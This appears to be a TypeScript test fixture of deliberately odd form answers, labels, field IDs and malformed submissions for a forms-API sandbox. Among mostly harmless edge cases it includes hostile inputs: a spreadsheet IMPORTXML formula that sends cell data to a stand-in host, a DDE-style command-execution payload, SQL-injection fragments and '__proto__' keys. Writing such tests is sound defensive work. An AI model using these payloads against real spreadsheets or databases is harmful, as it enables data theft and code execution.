import { ExactNumber, type Json } from '../../../src/mirror/types.ts';
import type { FieldDraft, SandboxForm } from '../../../src/sandbox/forms-api/workspace-forms.ts';
import type { Distortion, FormsStore } from '../../../src/sandbox/forms-api/store.ts';

/** Odd answers that the specification allows, by their oddity. */
export const ODD_ANSWERS: Readonly<Record<string, Json>> = {
  true: true,
  false: false,
  null: null,
  'empty text': '',
  'blank text': '  \t ',
  zero: 0,
  'negative zero': new ExactNumber('-0'),
  'integer beyond 2^53': new ExactNumber('9007199254740993'),
  'integer of 40 digits': new ExactNumber('1234567890123456789012345678901234567890'),
  'decimal of 25 digits': new ExactNumber('0.1234567890123456789012345'),
  'number with exponent': new ExactNumber('1E3'),
  'number beyond double': new ExactNumber('1e400'),
  'array of texts': ['Töpfern', 'Chor, gemischt'],
  'empty array': [],
  'nested array': [[1, [2]], { deep: [null] }],
  'object (a file)': { name: 'životopis.pdf', size: 48_213, url: 'https://files.example/1' },
  'empty object': {},
  'object with big number': { amount: new ExactNumber('12345678901234567890') },
  formula: '=IMPORTXML("https://evil.example/?"&A1, "//x")',
  'formula with plus': '+420 601 123 456',
  'formula with at': '@SUM(1+1)*cmd|"/c calc"!A0',
  'leading zeros': '000123',
  'long digits as text': '12345678901234567890',
  'looks like a date': '1-2',
  'looks like a number': '1e5',
  'line breaks': 'first\nsecond\r\nthird\u2028fourth',
  quotes: `"double" 'single' \\ back; drop table x; --`,
  emoji: '👩🏽‍🔧❤️🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  'right to left': 'שלום עולם \u202Ereversed',
  'decomposed diacritics': 'Pr\u030Ci\u0301klad',
  'null character': 'before\u0000after',
  'control characters': '\u0001\u001B[31mred\u007F',
  'lone surrogate': 'half \uD83D emoji',
  'tab separated': 'a\tb\tc',
  'very long text': 'Příliš dlouhý text. '.repeat(3_000),
};

/** Labels that clash or are hard to make a column of. */
export const ODD_LABELS: readonly string[] = [
  '',
  ' ',
  'Name',
  'Name',
  'name',
  'NAME ',
  'id',
  'status',
  'created_at',
  'Status',
  '_deleted_at',
  'Submission ID',
  'select',
  '__proto__',
  'constructor',
  '123',
  '💬',
  'Řeřicha',
  'Rericha',
  '"quoted"; drop table x',
  'two\nlines',
  'Velmi dlouhá otázka, která se ptá na všechno najednou. '.repeat(40).trim(),
  'Velmi dlouhá otázka, která se ptá na všechno najednou. '.repeat(40).trim(),
];

/** Field IDs that break careless programs. */
export const ODD_FIELD_IDS: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  'id',
  'status',
  '0',
  '',
];

/** Submissions that differ a little from the specification, by their oddity. */
export const ODD_SUBMISSIONS: Readonly<Record<string, Distortion>> = {
  'no id': { id: undefined },
  'null id': { id: null },
  'id is a number': { id: 17 },
  'empty id': { id: '' },
  'no data': { data: undefined },
  'null data': { data: null },
  'data is an array': { data: ['a', 1] },
  'data is text': { data: 'a' },
  'broken date': { createdAt: 'yesterday' },
  'impossible date': { createdAt: '2026-13-45T99:00:00Z' },
  'no date': { createdAt: undefined },
  'date is a number': { createdAt: 1_767_225_600_000 },
  'date with offset': { createdAt: '2026-01-01T02:00:00+02:00' },
  'date with microseconds': { createdAt: '2026-01-01T00:00:00.123456Z' },
  'date without zone': { createdAt: '2026-01-01T00:00:00' },
  'no status': { status: undefined },
  'null status': { status: null },
  'seventh status': { status: 'ON_HOLD' },
  'no form': { formId: undefined },
};

/** Forms whose schema is odd, by their oddity. */
export const ODD_SCHEMAS: Readonly<Record<string, Distortion>> = {
  'no schema': { schema: undefined },
  'null schema': { schema: null },
  'no sections': { schema: { logic: [] } },
  'null sections': { schema: { sections: null, logic: [] } },
  'no fields': { schema: { sections: [{}, { fields: null }], logic: [] } },
  'field without label': { schema: { sections: [{ fields: [{ id: 'field_1_a' }] }] } },
  'field with null label': {
    schema: { sections: [{ fields: [{ id: 'field_1_a', label: null }] }] },
  },
  'one field twice': {
    schema: {
      sections: [
        { fields: [{ id: 'field_1_a', label: 'First' }] },
        { fields: [{ id: 'field_1_a', label: 'Second' }] },
      ],
    },
  },
};

/**
 * Adds a form with every odd label and field ID, one submission for each odd answer (in the first field and in one named
 * `__proto__`), and one for each odd submission. Returns the form.
 */
export function addOddForm(store: FormsStore): SandboxForm {
  const fields: FieldDraft[] = [
    { id: 'field_0_first', label: 'First' },
    ...ODD_LABELS.map((label) => ({ label })),
    ...ODD_FIELD_IDS.map((id) => ({ id, label: `Field ${id}` })),
  ];
  const form = store.addForm({ name: 'Odd & ends', slug: 'odd', fields });
  for (const answer of Object.values(ODD_ANSWERS)) {
    const data = new Map<string, Json>([
      ['field_0_first', answer],
      ['__proto__', answer],
    ]);
    store.insert({ formId: form.id, data });
  }
  for (const [name, distortion] of Object.entries(ODD_SUBMISSIONS)) {
    const { id } = store.insert({ formId: form.id, data: { field_0_first: name } });
    store.distort(id, distortion);
  }
  return form;
}
